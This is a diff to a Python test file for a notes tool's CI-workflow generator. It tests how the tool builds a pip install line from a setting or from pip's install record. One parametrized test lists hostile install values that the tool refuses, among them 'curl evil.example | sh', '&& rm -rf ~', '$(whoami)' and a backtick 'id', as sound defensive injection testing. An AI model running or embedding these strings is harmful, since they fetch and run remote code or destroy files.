@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 from conftest import run
 
-from notes_tool.features import jsonc
+from notes_tool.features import install_source, jsonc
 
 USER_SETTINGS = """\
 // My settings: keep these comments.
@@ -91,14 +91,22 @@ def test_a_vs_code_file_that_is_not_json_is_left_alone(tmp_path: Path) -> None:
     assert (ws / ".vscode" / "settings.json").read_text() == "{ this is not json"
 
 
+def set_install(root: Path, spec: str) -> None:
+    toml = root / "notes.toml"
+    toml.write_text(toml.read_text().replace('install = ""', f"install = {json.dumps(spec)}"))
+
+
 def test_github_actions_workflow(tmp_path: Path) -> None:
     top = tmp_path / "repo"
     top.mkdir()
     subprocess.run(["git", "init", "-q", str(top)], check=True)
+    assert run("init", str(top / "course")).exit_code == 0
+    set_install(top / "course", "git+https://github.com/learner/notes_tool@v1.2")
     result = run("init", str(top / "course"), "--github-actions")
     assert result.exit_code == 0
     workflow = (top / ".github" / "workflows" / "notes.yml").read_text()
     assert "working-directory: course" in workflow
+    assert "run: python -m pip install 'git+https://github.com/learner/notes_tool@v1.2'" in workflow
     assert "run: notes index --check" in workflow and "run: notes check" in workflow
     assert "on: [push, pull_request]" in workflow
     assert "notes.yml exists; kept it" in run("init", str(top / "course"), "--github-actions").stderr
@@ -181,3 +189,98 @@ def test_errors_are_plain_when_piped(example: Path) -> None:
         [sys.executable, "-m", "notes_tool", "search", "zzzqqqxx"], cwd=example, capture_output=True, text=True
     )
     assert "\033[" not in done.stderr and "no matches" in done.stderr
+
+
+def test_without_a_known_install_the_workflow_is_not_written_and_init_says_what_to_set(tmp_path: Path) -> None:
+    """The tests run from an editable install: a folder on this machine, which CI cannot reach."""
+    result = run("init", str(tmp_path / "course"), "--github-actions")
+    assert result.exit_code == 1
+    assert "no workflow written: this notes_tool is an editable install from" in result.stderr
+    assert 'install = "git+https://github.com/YOU/notes_tool@v1.2"' in result.stderr
+    assert not (tmp_path / "course" / ".github").exists()
+    assert (tmp_path / "course" / "notes.toml").exists()  # the rest of init was done
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "notes-tool==1.2; curl evil.example | sh",
+        "git+https://github.com/x/notes_tool@v1 && rm -rf ~",
+        "git+https://github.com/x/notes_tool@${{ secrets.TOKEN }}",
+        "notes-tool' || true '",
+        "git+https://user:ghp_secret@github.com/x/notes_tool",
+        "git+ssh://git@github.com/x/notes_tool",
+        "file:///home/me/notes_tool",
+        "../notes_tool",
+        "$(whoami)",
+        "notes-tool`id`",
+    ],
+)
+def test_an_install_setting_a_shell_would_act_on_is_refused(tmp_path: Path, spec: str) -> None:
+    assert run("init", str(tmp_path / "c")).exit_code == 0
+    set_install(tmp_path / "c", spec)
+    result = run("init", str(tmp_path / "c"), "--github-actions")
+    assert result.exit_code == 1
+    assert "notes.toml:" in result.stderr and "'install' must be a package name" in result.stderr
+    assert not (tmp_path / "c" / ".github").exists()
+
+
+@pytest.mark.parametrize(
+    ("record", "spec"),
+    [
+        (
+            {"url": "https://github.com/learner/notes_tool", "vcs_info": {"vcs": "git", "commit_id": "a" * 40}},
+            f"git+https://github.com/learner/notes_tool@{'a' * 40}",
+        ),
+        (
+            {"url": "https://example.org/dist/notes_tool-1.2-py3-none-any.whl", "archive_info": {}},
+            "https://example.org/dist/notes_tool-1.2-py3-none-any.whl",
+        ),
+        (None, "notes-tool==1.2"),  # no record: installed from a package index
+        ({"url": "file:///home/me/notes_tool", "dir_info": {}}, None),  # `pip install .` from a clone
+        ({"url": "file:///home/me/notes_tool", "dir_info": {"editable": True}}, None),
+        ({"url": "ssh://git@github.com/me/notes_tool", "vcs_info": {"vcs": "git", "commit_id": "b" * 40}}, None),
+        ({"url": "https://me:token@github.com/me/notes_tool", "vcs_info": {"vcs": "git", "commit_id": "c"}}, None),
+        ({"url": "https://hg.example.org/notes_tool", "vcs_info": {"vcs": "hg", "commit_id": "d"}}, None),
+    ],
+)
+def test_the_workflow_installs_what_pip_recorded(record: dict[str, object] | None, spec: str | None) -> None:
+    source = install_source.from_direct_url(None if record is None else json.dumps(record), "1.2")
+    assert source.spec == spec
+    if spec is None:
+        assert "token" not in install_source.why_unknown(source)
+
+
+def test_a_workflow_from_pips_record_says_where_it_installs_from(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A copy installed from a git URL: the workflow installs that very commit."""
+    record = {"url": "https://github.com/learner/notes_tool", "vcs_info": {"vcs": "git", "commit_id": "e" * 40}}
+    info = tmp_path / "site" / "notes_tool-1.2.dist-info"  # what pip leaves in site-packages
+    info.mkdir(parents=True)
+    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: notes-tool\nVersion: 1.2\n")
+    (info / "direct_url.json").write_text(json.dumps(record))
+    monkeypatch.syspath_prepend(str(tmp_path / "site"))
+    result = run("init", str(tmp_path / "c"), "--github-actions")
+    assert result.exit_code == 0, result.stderr
+    workflow = (tmp_path / "c" / ".github" / "workflows" / "notes.yml").read_text()
+    assert f"- run: python -m pip install 'git+https://github.com/learner/notes_tool@{'e' * 40}'" in workflow
+    assert "from where this notes_tool was installed (https://github.com/learner/notes_tool)" in workflow
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "notes-tool",
+        "notes-tool==1.2",
+        "notes-tool[youtube]>=1.2,<2",
+        "git+https://github.com/learner/notes_tool@v1.2",
+        "git+https://github.com/learner/notes_tool.git@0123abc#egg=notes-tool",
+        "https://example.org/notes_tool-1.2.tar.gz",
+    ],
+)
+def test_an_install_setting_pip_understands_is_written_quoted(tmp_path: Path, spec: str) -> None:
+    assert run("init", str(tmp_path / "c")).exit_code == 0
+    set_install(tmp_path / "c", spec)
+    assert run("init", str(tmp_path / "c"), "--github-actions").exit_code == 0
+    assert f"- run: python -m pip install '{spec}'\n" in (tmp_path / "c" / ".github/workflows/notes.yml").read_text()
